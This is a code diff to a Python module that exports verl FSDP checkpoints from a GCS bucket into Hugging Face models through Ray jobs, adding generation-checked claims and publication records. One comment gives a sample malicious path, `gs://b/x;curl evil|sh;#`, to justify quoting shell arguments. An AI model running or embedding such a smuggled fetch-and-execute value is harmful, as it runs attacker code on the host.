@@ -5,8 +5,11 @@ with `fsdp_config.json` and the model's config in `huggingface/`), which neither
 `python -m verl.model_merger merge --backend fsdp --local_dir <actor> --target_dir <dir>` (the same command in
 verl 0.6.1 and 0.9.0) gathers them into safetensors. This module picks the step (by default the newest whose model
 is in the bucket, which may still lack the optimizer state the merger never reads), runs that command with the run's
-own verl, and publishes the result only once it is complete: the merger writes into `<target>.partial`, which is
-renamed to `<target>` at the end, so a reader of the bucket never sees half a model.
+own verl, and publishes the result only once it is complete: the merger writes into a folder of this export's own,
+renamed to `<target>` at the end, so a reader of the bucket never sees half a model. With the bucket's name
+(`--bucket`), the decisions rest on GCS generations (workloads/gcs.py): one export of a run at a time (a claim
+written with ifGenerationMatch), only shards at the generations the step's marker names and unchanged while the
+merger read them, and the publication under the claim, recorded in `<target>.json`.
 
 Runs on CPU: merging needs the model's full fp32 weights in memory (about 4 bytes per parameter, twice while
 saving), not a GPU. Stdlib only at import time: it is shipped into the cluster.
@@ -22,12 +25,19 @@ import hashlib
 import io
 import json
 import os
+import re
 import shlex
 import shutil
 import subprocess
 import sys
+import uuid
 import zipfile
 from pathlib import Path
+
+try:
+    from workloads.gcs import Gcs, PreconditionFailed
+except ImportError:  # in the export's Ray job: gcs.py ships beside this file (working_dir_package)
+    from gcs import Gcs, PreconditionFailed  # type: ignore[no-redef]
 
 TRACKER = "latest_checkpointed_iteration.txt"
 """verl's record of its newest complete checkpoint, in the checkpoint folder (verl/utils/checkpoint)."""
@@ -42,30 +52,67 @@ SAVED = ".verl-gke/saved.json"
 MERGE_TIMEOUT_S = 4 * 3600.0
 """A 32B model's shards are ~130 GB of fp32 read from the bucket and ~65 GB written back."""
 PARTIAL_SUFFIX = ".partial"
+CLAIM = ".export.json"
+"""`models/<run>/.export.json`: the export of the run that holds it ({export, state}); one at a time."""
+POINTER_SUFFIX = ".json"
+"""`models/<run>/model.json` beside the model: which export published it, its step and the generations it merged."""
+CLAIM_LAPSES_S = MERGE_TIMEOUT_S + 600.0
+"""A live claim older than this (by GCS's clock) is a dead export's: no export merges for longer."""
 
 
 class ExportError(Exception):
     """An export that cannot be made; `str()` says why on one line."""
 
 
-def _model_whole(step_dir: Path, marker_name: str) -> bool:
-    """The marker is the step's current attempt's and every file it lists is in the bucket at its size."""
+_RESUME_ONLY = re.compile(r"(^|/)actor/(optim|extra_state)_world_size_\d+_rank_\d+\.pt$")
+"""The optimizer state: in the complete marker, never read by the merger."""
+
+
+def _model_whole(step_dir: Path, marker_name: str, gcs: Gcs | None = None) -> bool:
+    """The marker is the step's current attempt's and every file it lists is in the bucket at its size; with
+    `gcs`, and at the generation the marker names for it (a marker without generations: verl-gke 0.7.0's)."""
     try:
         attempt = json.loads((step_dir / SAVED).read_text())["attempt"]
         marker = json.loads((step_dir / marker_name).read_text())
-        return marker["attempt"] == attempt and all(
+        whole = marker["attempt"] == attempt and all(
             (step_dir / name).stat().st_size == size for name, size in marker["files"].items())
+        if not whole or gcs is None:
+            return whole
+        return _changed(gcs, step_dir, marker.get("generations", {})) is None
     except (FileNotFoundError, ValueError, KeyError, TypeError, AttributeError):
         return False  # not there, rotated away meanwhile, or a file gone: not a model to merge
     # Any other OSError (the bucket did not answer) goes up: an older step is never taken for the newest.
 
 
-def model_steps(checkpoint_dir: Path) -> list[int]:
-    """Steps whose model is in the bucket: a marker (MARKERS) of the step's current attempt, its files whole."""
+def _changed(gcs: Gcs, step_dir: Path, generations: dict[str, int], now: dict[str, int] | None = None) -> str | None:
+    """The first file the merger reads (path under `step_dir`) not at the generation named for it; None if none.
+    `now`: the generations as read already (object name -> generation), else read now."""
+    prefix = gcs.name(step_dir)
+    if now is None:
+        now = {name: stat.generation for name, stat in gcs.generations(prefix + "/").items()}
+    return next((name for name, gen in sorted(generations.items())
+                 if name.startswith("actor/") and not _RESUME_ONLY.search(name)
+                 and now.get(f"{prefix}/{name}") != gen), None)
+
+
+def vouched_generations(step_dir: Path) -> dict[str, int]:
+    """The generations the step's marker (the model's, else the complete one) names; {} for a marker from
+    before generations were recorded."""
+    for name in MARKERS:
+        try:
+            return json.loads((step_dir / name).read_text()).get("generations", {})
+        except (FileNotFoundError, ValueError, AttributeError):
+            continue
+    return {}
+
+
+def model_steps(checkpoint_dir: Path, gcs: Gcs | None = None) -> list[int]:
+    """Steps whose model is in the bucket: a marker (MARKERS) of the step's current attempt, its files whole
+    (with `gcs`: at the generations it names)."""
     steps = [int(p.name.removeprefix("global_step_")) for p in checkpoint_dir.glob("global_step_*")
              if p.name.removeprefix("global_step_").isdigit()]
     return sorted(step for step in steps
-                  if any(_model_whole(checkpoint_dir / f"global_step_{step}", name) for name in MARKERS))
+                  if any(_model_whole(checkpoint_dir / f"global_step_{step}", name, gcs) for name in MARKERS))
 
 
 def copied_by_verl_gke(step_dir: Path) -> bool:
@@ -73,12 +120,12 @@ def copied_by_verl_gke(step_dir: Path) -> bool:
     return (step_dir / Path(SAVED).parent).exists() or any((step_dir / name).exists() for name in MARKERS)
 
 
-def latest_step(checkpoint_dir: Path) -> int:
+def latest_step(checkpoint_dir: Path, gcs: Gcs | None = None) -> int:
     """The newest step whose model is in the bucket: the newest marked one's (model_steps), or verl's tracker's
     where verl wrote the checkpoint straight into the bucket (no records: runs before local saves) and the
     merger's files are there, whichever is newer."""
     tracker = checkpoint_dir / TRACKER
-    marked = model_steps(checkpoint_dir)
+    marked = model_steps(checkpoint_dir, gcs)
     try:
         tracked = int(tracker.read_text().strip())
     except FileNotFoundError:
@@ -141,41 +188,117 @@ def merge_command(python: str, actor: Path, target: Path) -> list[str]:
 
 def export(checkpoint_dir: Path, target_dir: Path, step: int | None = None, *, python: str = sys.executable,
            verl_dir: Path | None = None, timeout_s: float = MERGE_TIMEOUT_S,
-           memory_bytes: int | None = None) -> Path:
+           memory_bytes: int | None = None, gcs: Gcs | None = None, export_id: str = "",
+           claim_lapses_s: float = CLAIM_LAPSES_S) -> Path:
     """Merge the checkpoint at `step` (default: the newest) into `target_dir`; return it.
 
     `verl_dir` goes first on the merger's path: the run's own verl (the staged wheel), whatever the image has.
     A merge that would not fit `memory_bytes` (default: this container's limit) is refused before it starts,
-    rather than killed halfway by the kernel."""
-    if step is None:
-        step = latest_step(checkpoint_dir)
-    elif step not in model_steps(checkpoint_dir) and copied_by_verl_gke(checkpoint_dir / f"global_step_{step}"):
-        raise ExportError(f"{checkpoint_dir}/global_step_{step}: step {step}'s model has not been fully copied to the "
-                          "bucket (its copy was cut, or is still running); steps that can be exported: "
-                          f"{', '.join(map(str, model_steps(checkpoint_dir))) or 'none'}")
-    actor = actor_dir(checkpoint_dir, step)
-    need, have = memory_needed(actor), memory_limit() if memory_bytes is None else memory_bytes
-    if need > have:
-        raise ExportError(f"merging {actor} needs about {need / 1e9:.1f} GB of memory (twice its model shards); "
-                          f"this node allows {have / 1e9:.1f} GB: export with --memory-gb {-(-need // 10**9)} so Ray "
-                          "runs it on a node with room")
-    partial = target_dir.with_name(target_dir.name + PARTIAL_SUFFIX)
-    shutil.rmtree(partial, ignore_errors=True)  # a killed export's leftovers, never the published model
-    env = dict(os.environ)
-    if verl_dir is not None:
-        env["PYTHONPATH"] = os.pathsep.join([str(verl_dir), *filter(None, [env.get("PYTHONPATH")])])
+    rather than killed halfway by the kernel. With `gcs` (the bucket mounted where both paths are), the
+    export claims the run (one export at a time), merges only shards at the generations the step's marker
+    vouches for, refuses when any changed while it merged, and publishes under its claim (module doc)."""
+    export_id = export_id or uuid.uuid4().hex[:12]
+    run = target_dir.parent.name
+    claim = _claim(gcs, target_dir, export_id, claim_lapses_s) if gcs is not None else None
+    partial = target_dir.with_name(f"{target_dir.name}{PARTIAL_SUFFIX}-{export_id}")  # this export's own folder
     try:
-        done = subprocess.run(merge_command(python, actor, partial), env=env, capture_output=True, text=True,
-                              timeout=timeout_s, check=False)
-    except subprocess.TimeoutExpired:
-        raise ExportError(f"verl's merger did not finish within {timeout_s:g} s on {actor}") from None
-    if done.returncode != 0:
-        tail = " | ".join((done.stderr or done.stdout).strip().splitlines()[-3:])
-        raise ExportError(f"verl's merger failed on {actor} (exit {done.returncode}): {tail}")
-    if target_dir.exists():
-        shutil.rmtree(target_dir)  # an earlier export of this run, replaced by the newer one
-    partial.rename(target_dir)
-    return target_dir
+        if step is None:
+            step = latest_step(checkpoint_dir, gcs)
+        elif step not in model_steps(checkpoint_dir, gcs) and copied_by_verl_gke(
+                checkpoint_dir / f"global_step_{step}"):
+            raise ExportError(f"{checkpoint_dir}/global_step_{step}: step {step}'s model has not been fully copied "
+                              "to the bucket (its copy was cut, or is still running); steps that can be exported: "
+                              f"{', '.join(map(str, model_steps(checkpoint_dir, gcs))) or 'none'}")
+        actor = actor_dir(checkpoint_dir, step)
+        need, have = memory_needed(actor), memory_limit() if memory_bytes is None else memory_bytes
+        if need > have:
+            raise ExportError(f"merging {actor} needs about {need / 1e9:.1f} GB of memory (twice its model shards); "
+                              f"this node allows {have / 1e9:.1f} GB: export with --memory-gb {-(-need // 10**9)} so "
+                              "Ray runs it on a node with room")
+        sources = _sources(gcs, actor) if gcs is not None else {}
+        if gcs is not None and (late := _changed(gcs, actor.parent, vouched_generations(actor.parent), sources)):
+            raise ExportError(f"run {run}: step {step}'s {late} is not the generation its marker vouches for (saved "
+                              f"again since); export {export_id} publishes nothing")
+        shutil.rmtree(partial, ignore_errors=True)  # this export's own leftovers (a retry of the same id)
+        env = dict(os.environ)
+        if verl_dir is not None:
+            env["PYTHONPATH"] = os.pathsep.join([str(verl_dir), *filter(None, [env.get("PYTHONPATH")])])
+        try:
+            done = subprocess.run(merge_command(python, actor, partial), env=env, capture_output=True, text=True,
+                                  timeout=timeout_s, check=False)
+        except subprocess.TimeoutExpired:
+            raise ExportError(f"verl's merger did not finish within {timeout_s:g} s on {actor}") from None
+        if done.returncode != 0:
+            tail = " | ".join((done.stderr or done.stdout).strip().splitlines()[-3:])
+            raise ExportError(f"verl's merger failed on {actor} (exit {done.returncode}): {tail}")
+        if gcs is not None and claim is not None:
+            # A generation is never reused: the same ones after the merge as before mean no shard was written
+            # while the merger read it.
+            after = _sources(gcs, actor)
+            changed = sorted(name for name in set(sources) | set(after) if sources.get(name) != after.get(name))
+            if changed:
+                raise ExportError(f"run {run}: step {step} was saved again while it was merged ({changed[0]} is "
+                                  f"another generation); export {export_id} publishes nothing")
+            claim = _hold(gcs, target_dir, claim, export_id, "publishing")
+        if target_dir.exists():
+            shutil.rmtree(target_dir)  # an earlier export of this run, replaced by the newer one
+        partial.rename(target_dir)
+        if gcs is not None and claim is not None:
+            pointer = gcs.name(target_dir) + POINTER_SUFFIX
+            current = gcs.stat(pointer)
+            try:
+                gcs.write_json(pointer, {"export": export_id, "folder": gcs.name(target_dir), "step": step,
+                                         "sources": sources}, current.generation if current else 0)
+            except PreconditionFailed:
+                raise ExportError(f"run {run}: another export wrote {pointer} meanwhile (it took over this "
+                                  f"export's claim); export {export_id} reports no success") from None
+            _hold(gcs, target_dir, claim, export_id, "released")
+            claim = None
+        return target_dir
+    except BaseException:
+        shutil.rmtree(partial, ignore_errors=True)
+        if gcs is not None and claim is not None:
+            try:
+                _hold(gcs, target_dir, claim, export_id, "released")
+            except (OSError, ExportError):
+                pass  # the claim lapses (CLAIM_LAPSES_S)
+        raise
+
+
+def _claim(gcs: Gcs, target_dir: Path, export_id: str, lapses_s: float) -> int:
+    """Claim the run's exports for `export_id` (ifGenerationMatch: of two claimants exactly one writes it);
+    the claim's generation. Refused while another export's claim is live and younger than `lapses_s`."""
+    name = f"{gcs.name(target_dir.parent)}/{CLAIM}"
+    run = target_dir.parent.name
+    held = gcs.read_json(name)
+    if held is not None and held[0].get("state") != "released" and held[0].get("export") != export_id:
+        age = gcs.age_s(name)
+        if age is None or age < lapses_s:
+            raise ExportError(f"run {run}: export {held[0].get('export')} of this run is live (its claim {name}, "
+                              f"{age or 0:.0f} s old; taken over once {lapses_s:.0f} s old); export {export_id} "
+                              "refuses and publishes nothing")
+    try:
+        return gcs.write_json(name, {"export": export_id, "state": "live"}, held[1] if held else 0)
+    except PreconditionFailed:
+        raise ExportError(f"run {run}: another export of this run claimed it first (its claim {name}); "
+                          f"export {export_id} refuses and publishes nothing") from None
+
+
+def _hold(gcs: Gcs, target_dir: Path, generation: int, export_id: str, state: str) -> int:
+    """Rewrite this export's claim with `state`, only if still the generation it wrote (a lapsed claim taken
+    over by another export fails here: this one then publishes nothing)."""
+    name = f"{gcs.name(target_dir.parent)}/{CLAIM}"
+    try:
+        return gcs.write_json(name, {"export": export_id, "state": state}, generation)
+    except PreconditionFailed:
+        raise ExportError(f"run {target_dir.parent.name}: another export took over this export's claim {name} "
+                          f"(export {export_id} outlived it); export {export_id} publishes nothing") from None
+
+
+def _sources(gcs: Gcs, actor: Path) -> dict[str, int]:
+    """What the merger reads (the actor's files but the optimizer state), object name -> generation."""
+    return {name: stat.generation for name, stat in gcs.generations(gcs.name(actor) + "/").items()
+            if not _RESUME_ONLY.search(name)}
 
 
 MOUNT_PREFIX = "/data"
@@ -198,7 +321,7 @@ SUBMISSION_PREFIX = "verl-export-"
 
 def submission(*, run_id: str, checkpoint_dir: str, step: int | None, working_dir: str,
                memory_bytes: int | None = None, mount: str = MOUNT_PREFIX, verl_dir: str | None = None,
-               python: str = "python") -> dict:
+               python: str = "python", bucket: str = "", id_suffix: str = "") -> dict:
     """Keyword arguments of Ray's `JobSubmissionClient.submit_job` for the export of `run_id`'s checkpoint.
 
     The job's driver runs on the head (no entrypoint resources: Ray starts drivers there), a CPU node on
@@ -206,18 +329,22 @@ def submission(*, run_id: str, checkpoint_dir: str, step: int | None, working_di
     worker while they are up: a 32B model's merge needs some 260 GB). `working_dir` holds this file; `mount` is
     where the nodes mount the bucket; `verl_dir` a verl to put first on the merger's path (default: the head's,
     which the RayCluster's environment already puts there); `python` the interpreter with verl's dependencies
-    (the image's)."""
+    (the image's); `bucket` the bucket's name, for the export's claim and publication through the JSON API;
+    `id_suffix` goes at the end of the submission id (which the export's claim names)."""
     target = f"{mount}/{model_path(run_id, step)}"
+    submission_id = f"{SUBMISSION_PREFIX}{run_id}-{'final' if step is None else f'step-{step}'}{id_suffix}"
     args = [python, "export_model.py", "--checkpoint-dir", checkpoint_dir, "--target-dir", target]
     if step is not None:
         args += ["--step", str(step)]
     if verl_dir:
         args += ["--verl-dir", verl_dir]
+    if bucket:
+        args += ["--bucket", bucket, "--mount", mount, "--export-id", submission_id]
     kwargs: dict = {
         # Ray runs the entrypoint with a shell: each argument quoted, so a path from an outputs file
         # (`gs://b/x;curl evil|sh;#`) stays a path.
         "entrypoint": shlex.join(args),
-        "submission_id": f"{SUBMISSION_PREFIX}{run_id}-{'final' if step is None else f'step-{step}'}",
+        "submission_id": submission_id,
         "runtime_env": {"working_dir": working_dir},
         "metadata": {"verl_gke_export": target},
     }
@@ -229,15 +356,16 @@ def submission(*, run_id: str, checkpoint_dir: str, step: int | None, working_di
 
 @functools.cache
 def working_dir_package() -> tuple[str, bytes]:
-    """This file as a Ray working_dir package: a zip with it at the top (Ray unpacks a gcs:// zip
-    without removing a top folder) named as Ray names its packages, `_ray_pkg_<sha1 of the zip>.zip`
+    """This file and gcs.py as a Ray working_dir package: a zip with them at the top (Ray unpacks a gcs://
+    zip without removing a top folder) named as Ray names its packages, `_ray_pkg_<sha1 of the zip>.zip`
     (ray/_private/runtime_env/packaging.py get_uri_for_package). Fixed timestamps make the name
     depend on the content only."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        entry = zipfile.ZipInfo(Path(__file__).name, date_time=(1980, 1, 1, 0, 0, 0))
-        entry.external_attr = 0o644 << 16
-        archive.writestr(entry, Path(__file__).read_bytes(), zipfile.ZIP_DEFLATED)
+        for path in (Path(__file__), Path(__file__).with_name("gcs.py")):
+            entry = zipfile.ZipInfo(path.name, date_time=(1980, 1, 1, 0, 0, 0))
+            entry.external_attr = 0o644 << 16
+            archive.writestr(entry, path.read_bytes(), zipfile.ZIP_DEFLATED)
     data = buffer.getvalue()
     return f"_ray_pkg_{hashlib.sha1(data).hexdigest()}.zip", data
 
@@ -248,10 +376,15 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--target-dir", type=Path, required=True, help="where the Hugging Face model goes")
     parser.add_argument("--step", type=int, default=None, help="checkpoint step (default: the newest)")
     parser.add_argument("--verl-dir", type=Path, default=None, help="the run's verl, first on the merger's path")
+    parser.add_argument("--bucket", default="", help="the bucket's name: claim and publish through the JSON API")
+    parser.add_argument("--mount", default=MOUNT_PREFIX, help="where the bucket is mounted (default /data)")
+    parser.add_argument("--export-id", default="", help="this export's id in its claim (its Ray submission id)")
     args = parser.parse_args(argv)
+    gcs = Gcs.in_pod(args.bucket, args.mount) if args.bucket else None
     try:
-        target = export(args.checkpoint_dir, args.target_dir, args.step, verl_dir=args.verl_dir)  # this python
-    except ExportError as error:
+        target = export(args.checkpoint_dir, args.target_dir, args.step, verl_dir=args.verl_dir,  # this python
+                        gcs=gcs, export_id=args.export_id)
+    except (ExportError, OSError) as error:  # OSError: the bucket did not answer (its claim lapses)
         print(f"export_model: {error}", file=sys.stderr)
         return 1
     print(f"export_model: {target}")
